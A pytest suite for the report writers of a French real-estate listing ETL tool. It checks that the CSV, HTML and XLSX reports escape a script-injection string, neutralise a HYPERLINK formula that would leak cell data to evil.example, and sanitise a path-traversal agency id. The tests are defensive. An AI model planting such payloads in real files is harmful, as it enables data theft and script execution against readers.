"""The report files of a run, read back the way their readers read them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Sequence
from pathlib import Path

import pytest
from openpyxl import load_workbook

from etl.records import FeedFacts
from etl.records import SourceLocation
from etl.issues import Issue, error, warning
from etl.outcome import ListingKey, Outcome
from etl.report.rows import ANOMALY_COLUMNS
from etl.report.summary import ConvertSummary
from etl.report.writers import write_reports

XSS = "<script>alert('pirate')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


def make_outcome(agency: str, line: int, ref: str, *, accepted: bool, issues: Sequence[Issue] = (),
                 requested: tuple[str, ...] = ("SL",), portals: tuple[str, ...] | None = None,
                 file: str = "Annonces.csv") -> Outcome:
    granted = list(requested if portals is None else portals) if accepted else []
    return Outcome(
        location=SourceLocation(file, line, line - 1),
        key=ListingKey(agency, f"{agency}-{ref}"),
        reference=ref,
        accepted=accepted,
        body={"portals": granted, "data": {"ref": ref}} if accepted else None,
        body_hash="ab" * 32 if accepted else None,
        requested_portals=list(requested),
        portals=granted,
        issues=list(issues),
    )


def price_missing() -> Issue:
    return error("E_PRICE_MISSING", "Le prix de vente (champ 11) est vide : indiquez le prix dans votre logiciel.",
                 source_field="Prix (champ 11)", aviv_path="data.prices.buy.price.amount", value="")


def postcode(value: str) -> Issue:
    return error("E_POSTCODE_INVALID", f"Le code postal « {value} » doit comporter 5 chiffres.",
                 source_field="Code postal (champ 5)", aviv_path="data.location.postalcode", value=value)


def short_description(value: str) -> Issue:
    return warning("W_BD_DESCRIPTION_SHORT",
                   "La description est trop courte pour Belles Demeures (160 caractères minimum).",
                   source_field="Texte annonce (champ 21)", aviv_path="data.texts.description.fr",
                   value=value, portal="BD")


def no_picture() -> Issue:
    return error("E_BD_PICTURE_MISSING", "Belles Demeures exige au moins une photo (champs 85 à 93).",
                 source_field="Photo 1 (champ 85)", aviv_path="media", portal="BD")


@pytest.fixture()
def summary() -> ConvertSummary:
    """Two agencies of a grouped Poliris send, plus one whose id is unsafe as a file name."""
    s = ConvertSummary()
    s.add_source("/srv/feeds/groupe/Annonces.csv", FeedFacts("/srv/feeds/groupe/Annonces.csv", records=9))
    for o in [
        make_outcome("AG-PARIS", 2, "VA1001", accepted=True, requested=("SL", "BD")),
        # rejected with two issues
        make_outcome("AG-PARIS", 3, "VA1002", accepted=False, issues=[price_missing(), postcode("75O11")]),
        make_outcome("AG-PARIS", 4, "VA1003", accepted=False, issues=[price_missing()]),
        # accepted with a warning whose value is hostile HTML
        make_outcome("AG-PARIS", 5, "VA1004", accepted=True, requested=("SL", "BD"),
                     issues=[short_description(XSS)]),
        # accepted, but refused on BD, and a warning
        make_outcome("AG-PARIS", 6, "VA1005", accepted=True, requested=("SL", "BD"), portals=("SL",),
                     issues=[no_picture(), short_description("Maison; «jardin»\nvue \"mer\"")]),
        make_outcome("AG-NICE", 2, "NI-77", accepted=True),
        make_outcome("AG-NICE", 3, "NI-78", accepted=False, issues=[postcode(FORMULA)]),
        make_outcome("AG-NICE", 4, "NI-79", accepted=True, issues=[short_description("-12 € +3 @moi")]),
        make_outcome("../Agence Été", 2, "X1", accepted=True),
    ]:
        s.add(o)
    return s


# Rows expected: 2 + 1 (rejected) + 1 (warning) + 2 (portal error + warning) for Paris, 1 + 1 for Nice.
EXPECTED_ROWS = 8


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing: Excel would misread the accents"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_write_reports_returns_every_file_it_wrote(summary: ConvertSummary, tmp_path: Path) -> None:
    paths = write_reports(summary, tmp_path / "out")
    assert {"csv", "html", "xlsx", "summary"} <= set(paths)
    assert {k for k in paths if k.startswith("html:")} == \
        {"html:AG-PARIS", "html:AG-NICE", "html:../Agence Été"}
    assert {k for k in paths if k.startswith("xlsx:")} == \
        {"xlsx:AG-PARIS", "xlsx:AG-NICE", "xlsx:../Agence Été"}
    for p in paths.values():
        assert p.is_file() and p.parent == tmp_path / "out"
    assert not list((tmp_path / "out").glob(".*tmp*")), "temporary files left behind"


def test_csv_has_one_row_per_issue_with_french_header(summary: ConvertSummary, tmp_path: Path) -> None:
    rows = read_csv(write_reports(summary, tmp_path)["csv"])
    header, body = rows[0], rows[1:]
    assert tuple(header) == ANOMALY_COLUMNS
    assert len(body) == EXPECTED_ROWS
    assert all(len(r) == len(header) for r in body)
    by = [dict(zip(header, r, strict=True)) for r in body]

    va1002 = [r for r in by if r["référence"] == "VA1002"]
    assert [r["code"] for r in va1002] == ["E_PRICE_MISSING", "E_POSTCODE_INVALID"]
    assert (va1002[1]["agence"], va1002[1]["clé source"], va1002[1]["fichier"], va1002[1]["ligne"]) == \
        ("AG-PARIS", "AG-PARIS-VA1002", "Annonces.csv", "3")
    assert (va1002[1]["gravité"], va1002[1]["décision"], va1002[1]["valeur"]) == ("erreur", "refusée", "75O11")
    assert va1002[1]["champ source"] == "Code postal (champ 5)"
    assert va1002[1]["chemin AVIV"] == "data.location.postalcode"
    assert "« 75O11 »" in va1002[1]["message"]

    va1005 = {r["code"]: r for r in by if r["référence"] == "VA1005"}
    assert va1005["E_BD_PICTURE_MISSING"]["décision"] == "publiée, sauf sur BD"
    assert va1005["E_BD_PICTURE_MISSING"]["portail"] == "BD"
    assert va1005["W_BD_DESCRIPTION_SHORT"]["gravité"] == "avertissement"
    # separator, quote and newline inside a value survive the round trip
    assert va1005["W_BD_DESCRIPTION_SHORT"]["valeur"] == "Maison; «jardin»\nvue \"mer\""
    # accepted listings without issues have no row
    assert not {"VA1001", "NI-77", "X1"} & {r["référence"] for r in by}


def test_csv_neutralises_values_a_spreadsheet_would_run_as_formulas(summary: ConvertSummary,
                                                                     tmp_path: Path) -> None:
    rows = read_csv(write_reports(summary, tmp_path)["csv"])
    values = {r[2]: r[ANOMALY_COLUMNS.index("valeur")] for r in rows[1:]}
    assert values["AG-NICE-NI-78"] == "'" + FORMULA
    assert values["AG-NICE-NI-79"] == "'-12 € +3 @moi"
    for r in rows[1:]:
        for cell in r:
            assert not cell or cell[0] not in "=+-@", cell


def test_html_run_page_is_the_operators_overview(summary: ConvertSummary, tmp_path: Path) -> None:
    html = write_reports(summary, tmp_path)["html"].read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and '<html lang="fr">' in html
    for text in ("Rapport d&#39;exploitation", "3 agences : 3 sans incident, 0 en échec ; 9 annonces lues, 3 refusées",
                 "AG-PARIS", "AG-NICE", 'href="report-AG-PARIS.html"', "/srv/feeds/groupe/Annonces.csv", "Total",
                 "Aucun échec ni refus de sécurité"):
        assert text in html, text
    # self-contained: no external stylesheet, script or image
    assert not re.search(r"<(link|script|img)\b", html)


def test_agency_page_tells_one_story_grouped_by_listing(summary: ConvertSummary, tmp_path: Path) -> None:
    html = write_reports(summary, tmp_path)["html:AG-PARIS"].read_text(encoding="utf-8")
    for text in ("Rapport de publication — AG-PARIS", "Des annonces sont à corriger", "3 annonces prêtes à publier",
                 "2 refusées, à corriger", "Annonces à corriger", "VA1002", "Annonces.csv, ligne 3",
                 "Code postal (champ 5)", "« 75O11 »", "Le prix de vente (champ 11) est vide",
                 "Publiée, sauf sur Belles Demeures", "Ce qui ne va pas" if False else "→", "Fichier reçu : Annonces.csv",
                 "<svg"):
        assert text in html, text
    # one card per listing, both problems of VA1002 in the same card
    card = html.split("VA1002")[1].split("</article>")[0]
    assert "E_PRICE_MISSING" in card and "E_POSTCODE_INVALID" in card
    # no server path, no raw code in the prose (codes only in their discreet span)
    assert "/srv/feeds" not in html
    assert "Problème E_" not in html and "(SL)" not in html
    assert not re.search(r"<(link|script|img)\b", html)
    assert "http://" not in html.replace("http://evil.example", "")


def test_html_escapes_agency_text(summary: ConvertSummary, tmp_path: Path) -> None:
    paths = write_reports(summary, tmp_path)
    for key in ("html", "html:AG-PARIS", "html:AG-NICE"):
        html = paths[key].read_text(encoding="utf-8")
        assert XSS not in html and FORMULA not in html
    assert "&lt;script&gt;alert(&#39;pirate&#39;)&lt;/script&gt;" in paths["html:AG-PARIS"].read_text(encoding="utf-8")


def test_html_puts_refused_listings_first_then_portal_refusals_then_warnings(summary: ConvertSummary,
                                                                            tmp_path: Path) -> None:
    html = write_reports(summary, tmp_path)["html:AG-PARIS"].read_text(encoding="utf-8")
    fix = html.split("Annonces à corriger")[1]
    assert fix.index("VA1002") < fix.index("VA1003") < fix.index("VA1005") < fix.index("VA1004")
    # within a listing, the error that most listings share comes first
    card = fix.split("VA1002")[1].split("</article>")[0]
    assert card.index("E_PRICE_MISSING") < card.index("E_POSTCODE_INVALID")


def test_each_agency_page_shows_only_that_agency(summary: ConvertSummary, tmp_path: Path) -> None:
    paths = write_reports(summary, tmp_path)
    paris = paths["html:AG-PARIS"].read_text(encoding="utf-8")
    nice = paths["html:AG-NICE"].read_text(encoding="utf-8")
    assert paths["html:AG-PARIS"].name == "report-AG-PARIS.html"
    assert "VA1002" in paris and "NI-78" not in paris and "AG-NICE" not in paris
    assert "NI-78" in nice and "VA1002" not in nice and "AG-PARIS" not in nice
    assert "Rapport de publication — AG-NICE" in nice
    run = paths["html"].read_text(encoding="utf-8")
    assert 'href="report-AG-NICE.html"' in run


def test_agency_ids_are_sanitised_into_safe_file_names(summary: ConvertSummary, tmp_path: Path) -> None:
    paths = write_reports(summary, tmp_path / "out")
    p = paths["html:../Agence Été"]
    assert p.name == "report-Agence-Ete.html"
    assert p.resolve().parent == (tmp_path / "out").resolve()
    assert "Rapport de publication — ../Agence Été" in p.read_text(encoding="utf-8")
    assert "Aucune annonce à corriger." in p.read_text(encoding="utf-8")


def test_xlsx_has_one_sheet_per_category(summary: ConvertSummary, tmp_path: Path) -> None:
    paths = write_reports(summary, tmp_path)
    wb = load_workbook(paths["xlsx"])
    assert wb.sheetnames == ["Synthèse", "À corriger", "Avertissements", "Publiées", "Supprimées"]

    fix = wb["À corriger"]
    rows = list(fix.iter_rows(values_only=True))
    assert rows[0] == ("Agence", "Référence", "Titre", "Fichier", "Ligne", "Décision", "Ce qui ne va pas",
                       "Valeur lue", "Comment corriger", "Code")
    warn = list(wb["Avertissements"].iter_rows(values_only=True))
    assert len(rows) - 1 + len(warn) - 1 == EXPECTED_ROWS == len(read_csv(paths["csv"])) - 1
    assert fix.freeze_panes == "A2"
    assert fix.auto_filter.ref == f"A1:J{len(rows)}"
    assert fix["A1"].font.bold
    assert 8 <= fix.column_dimensions["A"].width <= 60
    va1002 = [r for r in rows if r[1] == "VA1002"]
    assert va1002[0][3:6] == ("Annonces.csv", 3, "refusée")  # line number stays a number
    # The formula is stored as text, unaltered and quote-prefixed: opening or editing the workbook runs nothing.
    cell = next(c for c in fix["H"] if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix
    # a description too short for BD keeps the listing off BD: something to fix, not a mere warning
    minus = next(c for c in fix["H"] if c.value == "-12 € +3 @moi")
    assert minus.data_type == "s" and minus.quotePrefix
    assert fix.cell(minus.row, 6).value == "publiée, sauf sur Belles Demeures"

    syn = wb["Synthèse"]
    table: dict[str, tuple] = {}
    for r in syn.iter_rows(values_only=True):
        if r and r[0] in ("AG-PARIS", "AG-NICE", "Total"):
            table.setdefault(r[0], r)
    # Agence, état, lues, acceptées, refusées, avec avertissements, SeLoger, Belles Demeures
    assert table["AG-PARIS"][:8] == ("AG-PARIS", "terminé", 5, 3, 2, 2, 3, 2)
    assert table["AG-NICE"][2:5] == (3, 2, 1)
    assert table["Total"][2:5] == (9, 6, 3)
    header_row = next(c.row for c in syn["A"] if c.value == "Agence")
    assert syn.freeze_panes == f"B{header_row + 1}"
    # an agency's own workbook has only its rows
    own = load_workbook(paths["xlsx:AG-NICE"])
    refs = {r[1] for s in ("À corriger", "Avertissements") for r in list(own[s].iter_rows(values_only=True))[1:]}
    assert refs == {"NI-78", "NI-79"}


def test_xlsx_survives_control_characters_in_agency_text(tmp_path: Path) -> None:
    s = ConvertSummary()
    s.add(make_outcome("AG1", 2, "R\x01", accepted=False, issues=[postcode("750\x0b01")]))
    wb = load_workbook(write_reports(s, tmp_path)["xlsx"])
    row = list(wb["À corriger"].iter_rows(values_only=True))[1]
    assert row[1] == "R\ufffd" and row[7] == "750\ufffd01"


def test_summary_json_counts_and_report_paths(summary: ConvertSummary, tmp_path: Path) -> None:
    paths = write_reports(summary, tmp_path)
    j = json.loads(paths["summary"].read_text(encoding="utf-8"))
    paris = j["agencies"]["AG-PARIS"]
    assert {k: paris[k] for k in ("read", "accepted", "rejected", "warned", "warnings", "errors")} == \
        {"read": 5, "accepted": 3, "rejected": 2, "warned": 2, "warnings": 2, "errors": 4}
    assert paris["by_portal"] == {"SL": 3, "BD": 2}
    assert paris["refused_by_portal"] == {"BD": 1}
    assert {k: paris[k] for k in ("created", "updated", "deleted", "unchanged", "failed")} == \
        dict.fromkeys(("created", "updated", "deleted", "unchanged", "failed"), 0)
    assert j["totals"]["read"] == 9 and j["totals"]["rejected"] == 3
    assert j["totals"]["read"] == j["totals"]["accepted"] + j["totals"]["rejected"]
    assert j["finished_at"] is not None and j["durations_s"]["total"] >= 0
    for name in j["reports"].values():
        assert (tmp_path / name).is_file()
    assert (tmp_path / paris["reports"]["html"]).is_file()
    assert j["agencies"]["../Agence Été"]["reports"]["html"] == "report-Agence-Ete.html"


def test_truncated_source_and_omitted_listings_are_announced(tmp_path: Path) -> None:
    s = ConvertSummary(max_listings_per_agency=2)
    s.add_source("/srv/feeds/AG1.csv", FeedFacts("/srv/feeds/AG1.csv", records=5, complete=False,
                                                problems=["Le fichier s'arrête au milieu de la ligne 6."]))
    for n in range(5):
        s.add(make_outcome("AG1", n + 2, f"R{n}", accepted=False, issues=[price_missing()]))
    paths = write_reports(s, tmp_path)
    html = paths["html:AG1"].read_text(encoding="utf-8")
    assert "n&#39;a pas pu être lu en entier" in html and 'class="headline fail"' in html
    assert "Le fichier s&#39;arrête au milieu de la ligne 6." in html
    assert "3 autres annonces ont aussi des problèmes" in html
    assert "Le fichier s&#39;arrête au milieu de la ligne 6." in paths["html"].read_text(encoding="utf-8")
    assert len(read_csv(paths["csv"])) - 1 == 2
    assert json.loads(paths["summary"].read_text())["sources"][0]["complete"] is False


def test_problem_titles_come_from_the_bilingual_registry(summary: ConvertSummary, tmp_path: Path) -> None:
    html = write_reports(summary, tmp_path)["html:AG-PARIS"].read_text(encoding="utf-8")
    assert "Prix absent — Prix (champ 11)" in html
    assert "Descriptif trop court pour Belles Demeures — Texte annonce (champ 21)" in html


def test_run_command_shows_loader_columns(tmp_path: Path) -> None:
    s = ConvertSummary(command="run")
    s.add(make_outcome("AG1", 2, "R1", accepted=True))
    s.add_load_counts("AG1", created=1)
    html = write_reports(s, tmp_path)["html"].read_text(encoding="utf-8")
    assert "Créées" in html and "rien n&#39;a été envoyé" not in html
    wb = load_workbook(tmp_path / "report.xlsx")
    header = next(r for r in wb["Synthèse"].iter_rows(values_only=True) if r and r[0] == "Agence")
    assert "Créées" in header


def test_empty_run_still_writes_every_report(tmp_path: Path) -> None:
    paths = write_reports(ConvertSummary(), tmp_path)
    assert len(read_csv(paths["csv"])) == 1
    assert json.loads(paths["summary"].read_text())["totals"]["read"] == 0
    assert "Rapport d&#39;exploitation" in paths["html"].read_text(encoding="utf-8")
    assert load_workbook(paths["xlsx"])["À corriger"].max_row == 1


def test_plan_announces_what_would_be_sent(tmp_path: Path) -> None:
    s = ConvertSummary(command="plan")
    s.add(make_outcome("AG1", 2, "R1", accepted=True))
    s.add_load_counts("AG1", created=1)
    html = write_reports(s, tmp_path)["html"].read_text(encoding="utf-8")
    assert "À créer" in html and "rien n&#39;a été envoyé" in html


def test_a_malformed_line_counts_for_the_agency_its_raw_value_names(tmp_path: Path) -> None:
    from etl.issues import error as err
    s = ConvertSummary()
    s.add(make_outcome("AG1", 2, "R1", accepted=True))
    s.add(Outcome(location=SourceLocation("Annonces.csv", 3, 2), key=None, reference="", accepted=False,
                  issues=[err("E_LINE_MALFORMED", "Annonces.csv, ligne 3 : ligne mal formée.",
                              value='"AG1"!#"R2"!#"vente"!#"apparte')]))
    assert [a.agency_id for a in s.agencies] == ["AG1"] and s.agency("AG1").read == 2
    html = write_reports(s, tmp_path)["html:AG1"].read_text(encoding="utf-8")
    assert "R2" in html and "Ligne illisible dans le fichier" in html and "agence non identifiée" not in html


def test_a_refused_listing_still_online_says_so(tmp_path: Path) -> None:
    from etl.report.run_info import AgencyRun
    s = ConvertSummary(command="run")
    s.add(make_outcome("AG1", 2, "R1", accepted=False, issues=[price_missing()]))
    s.add(make_outcome("AG1", 3, "R2", accepted=True))
    s.runs["AG1"] = AgencyRun("AG1", live_before=2, kept_keys={"AG1-R1"})
    html = write_reports(s, tmp_path)["html:AG1"].read_text(encoding="utf-8")
    assert "Refusée — l&#39;ancienne version reste en ligne" in html
    assert "1 refusée, à corriger (dont 1 reste en ligne dans sa version précédente)" in html
    wb = load_workbook(tmp_path / "report-AG1.xlsx")
    assert list(wb["À corriger"].iter_rows(values_only=True))[1][5] == "refusée, l'ancienne version reste en ligne"


def test_a_listing_kept_off_a_portal_by_a_warning_reads_published_except_there() -> None:
    """A portal rule that fails while other portals take the listing is a W_ issue with its portal:
    the row must not read « publiée » beside that portal, as if the listing were on it."""
    from etl.records import SourceLocation
    from etl.issues import Issue, Severity
    from etl.report.rows import decision, excluded_from
    from etl.report.summary import ListingProblem

    lease = Issue("W_BUCOM_LEASE_RIGHT_MISSING", "…", Severity.WARNING, "champ 218", "x", None, "BUCOM")
    other = Issue("W_VALUE_IGNORED", "…", Severity.WARNING, "champ 30", "y", "z")
    published = ListingProblem("a", "R", "k", SourceLocation("f", 1, 1), True, ("SL", "BUCOM"), ("SL",),
                               (lease, other))
    assert excluded_from(published, lease) == "BUCOM" and decision(published, lease) == "publiée, sauf sur BUCOM"
    assert excluded_from(published, other) is None and decision(published, other) == "publiée"


def test_portal_notes_name_the_portals_and_keep_a_refusal_beside_a_picture_error() -> None:
    from etl.report.run_info import PortalNote
    from etl.report.story import portal_note_words
    refused = PortalNote("K1", "R1", "CREATED", refused=["BD"])
    assert portal_note_words(refused, "fr") == "en ligne, mais refusée sur Belles Demeures"
    both = PortalNote("K2", "R2", "UPDATED_WITH_MEDIA_ERROR", refused=["BD"], failed_media=["https://x.test/1.jpg"])
    assert portal_note_words(both, "fr") == ("en ligne, mais refusée sur Belles Demeures ; une photo n'a pas pu "
                                             "être téléchargée : vérifiez son adresse")
    assert portal_note_words(both, "en") == ("online, but refused on Belles Demeures; a picture could not be "
                                             "downloaded: check its address")
    media = PortalNote("K3", "R3", "CREATED_WITH_MEDIA_ERROR")
    assert portal_note_words(media, "fr").startswith("en ligne, mais une photo")


def test_the_text_part_of_the_mail_lists_the_portal_notes_its_facts_announce() -> None:
    from etl.report.run_info import AgencyRun, PortalNote
    from etl.report.story import build_story, plain_text
    s = ConvertSummary(command="run")
    s.add(make_outcome("AG1", 2, "R1", accepted=True))
    run = AgencyRun("AG1", live_before=1, portal_notes=[
        PortalNote("AG1-R1", "R1", "CREATED", title="Maison", refused=["BD"], why="Belles Demeures n'accepte pas"),
        PortalNote("AG1-R2", "R2", "CREATED_WITH_MEDIA_ERROR", failed_media=["https://x.test/1.jpg"])])
    text = plain_text(build_story(s, s.agency("AG1"), run))
    assert "(voir plus bas)" in text
    section = text.split("Côté portails\n-------------\n")[1]
    assert section.startswith("Ce que les portails ont répondu après réception :\n"
                              "  - R1 — Maison : en ligne, mais refusée sur Belles Demeures\n"
                              "      raison donnée par le portail : « Belles Demeures n'accepte pas »\n"
                              "  - R2 : en ligne, mais une photo n'a pas pu être téléchargée : vérifiez son adresse\n"
                              "      photo non téléchargée : https://x.test/1.jpg\n")


def test_an_over_quota_night_says_so_in_the_subject_not_nothing_to_fix() -> None:
    from datetime import datetime

    from etl.report.run_info import AgencyRun, Change, QuotaNote
    from etl.report.story import build_story
    s = ConvertSummary(command="run", started_at=datetime(2025, 12, 1, 2, 0).astimezone())
    for line in range(2, 5):
        s.add(make_outcome("AG1", line, f"R{line}", accepted=True))
    run = AgencyRun("AG1", name="Agence Une", live_before=0, quotas={"SL": 1},
                    changes=[Change("created", "AG1-R2", "R2")],
                    over_quota=[QuotaNote("AG1-R3", "R3", ["SL"]), QuotaNote("AG1-R4", "R4", ["SL"])])
    story = build_story(s, s.agency("AG1"), run)
    assert story.headline == "Des annonces n'ont pas trouvé de place dans votre contrat" and story.needs_agency
    assert story.subject == "2 annonces hors quota de votre contrat, 1 en ligne — Agence Une, nuit du 30/11"
    run.language = "en"
    assert build_story(s, s.agency("AG1"), run, lang="en").subject == \
        "2 listings beyond your contract's quota, 1 online — Agence Une, night of 30/11"
